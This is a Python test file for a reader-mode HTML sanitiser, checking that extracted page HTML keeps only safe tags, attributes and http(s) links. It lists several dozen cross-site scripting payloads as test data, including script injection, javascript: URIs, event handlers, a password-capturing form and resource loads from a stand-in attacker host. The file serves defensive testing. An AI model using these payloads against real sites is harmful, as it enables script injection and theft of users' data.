"""Reader HTML is harmless, whatever the page was (DESIGN 7)."""

from __future__ import annotations

import re
from collections.abc import Sequence

import pytest

from backend.capture.extract.page_reader import extract_page
from backend.capture.extract.sanitize import MAX_HTML, paragraphs_html, sanitize_html

pytestmark = pytest.mark.unit

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src=\"https://a.example/a.png\" onload='alert(1)' style='width:9999px'>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href=' &#106;ava\tscript:alert(1)'>click</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>click</a>",
    "<a href='vbscript:x'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<a href='file:///etc/passwd'>click</a>",
    "<a href='https://ok.example/' onclick=alert(1) target=_blank rel=opener>click</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example/'><input name=password><button>go</button></form>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//evil.example/track)'>styled</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href='https://evil.example/'>",
    "<video src=x onerror=alert(1)></video><audio autoplay src=x></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>x</p></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<p id=x class=y name=z data-x=1>plain</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x-widget onclick=alert(1)>custom</x-widget>",
]
READING_TAGS = re.findall(
    r"\w+",
    """a abbr b blockquote br caption code dd del div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd
    li mark ol p pre q s samp small strong sub sup table tbody td tfoot th thead tr u ul var""",
)
# What a page states of a formula is written by its preparation alone, so the sanitiser lets these through.
FORMULA_TAGS = ["math", "mi", "mtext"]
TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*)([^>]*)>")
ATTRIBUTE = re.compile(r'\s([a-z-]+)="([^"]*)"')
TEXT = "The keeper wrote down each ship that passed, its flag, and the colour of its sails. " * 4


def assert_harmless(html: str, *, more_tags: Sequence[str] = ()) -> None:
    """Holds every tag and attribute against a list of its own, not the sanitiser's."""
    for _, name, attributes in TAG.findall(html):
        assert name in (*READING_TAGS, *more_tags)
        for attribute, value in ATTRIBUTE.findall(attributes):
            assert attribute in ("href", "src", "alt", "title", "rel", "colspan", "rowspan", "start"), attribute
            if attribute in ("href", "src"):
                assert value.startswith(("http://", "https://")), value
        if name == "a" and attributes:
            assert 'rel="noopener noreferrer nofollow"' in attributes
    assert "<!--" not in html


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_page_cannot_smuggle_anything_into_reader_html(attack: str) -> None:
    for markup in (
        f"<html><head><title>t</title></head><body><article><p>{TEXT}</p>{attack}<p>{TEXT}</p></article></body></html>",
        f"<html><body><title>t</title>{attack}</body></html>",
        f"<html><head><title>t</title>{attack}</head><body><p>{TEXT}{attack}</p></body></html>",
    ):
        page = extract_page(markup.encode(), url="https://a.example/", media_type="text/html", charset="utf-8")
        assert_harmless(page.html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_sanitiser_holds_without_what_comes_before_it(attack: str) -> None:
    assert_harmless(sanitize_html(f"<p>before</p>{attack}<p>after</p>"), more_tags=FORMULA_TAGS)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("media_type", ["text/plain", "text/markdown", "application/json", "text/csv"])
def test_markup_in_a_plain_file_is_shown_and_not_run(attack: str, media_type: str) -> None:
    page = extract_page(attack.encode(), url="https://a.example/", media_type=media_type, charset="utf-8")
    assert page.text == attack
    assert set(re.findall(r"<(\w+)", page.html)) <= {"p", "br"}


def test_relative_addresses_are_not_left_to_the_readers_site() -> None:
    assert sanitize_html('<a href="/logout">x</a><img src="//evil.example/a.png">').count("evil") == 0
    assert "/logout" not in sanitize_html('<a href="/logout">x</a>')


def test_plain_paragraphs_are_escaped() -> None:
    assert paragraphs_html("a < b & c\nline\n\n\n\nnext") == "<p>a &lt; b &amp; c<br>line</p>\n<p>next</p>"


@pytest.mark.parametrize("markup", ["<p>word</p>" * 400_000, "<p>" + "&amp;" * 600_000, "<b>" * 1000 + "x" * 3_000_000])
def test_long_html_is_cut_and_stays_whole(markup: str) -> None:
    clean = sanitize_html(markup)
    assert len(clean) <= MAX_HTML
    assert clean.count("<p>") == clean.count("</p>")
    assert clean.count("<b>") == clean.count("</b>")
